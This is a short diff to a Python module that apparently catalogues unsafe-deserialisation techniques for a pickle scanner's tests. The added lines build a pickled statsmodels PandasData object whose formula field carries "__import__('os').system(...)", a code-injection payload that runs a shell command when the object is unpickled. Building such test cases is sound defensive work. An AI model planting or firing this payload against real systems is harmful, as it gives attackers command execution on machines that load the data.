@@ -400,6 +400,10 @@ def _elsewhere() -> Iterator[Technique]:
     ):
         label = name.replace(":", ".")
         yield technique("not-installed", call(name, *args), label, needs=needs, runs=False)
+    for asked in ("restore_model_spec", "restore_design_info"):
+        state = {"formula": f"y ~ __import__('os').system('{SH}')", asked: True, "frame": {}}
+        data = Build(New("statsmodels.base.data:PandasData"), state)
+        yield technique("not-installed", data, f"formula, {asked}", needs="statsmodels", runs=False)
 
 
 _ = (io, Build, New, _namespace, pickled)
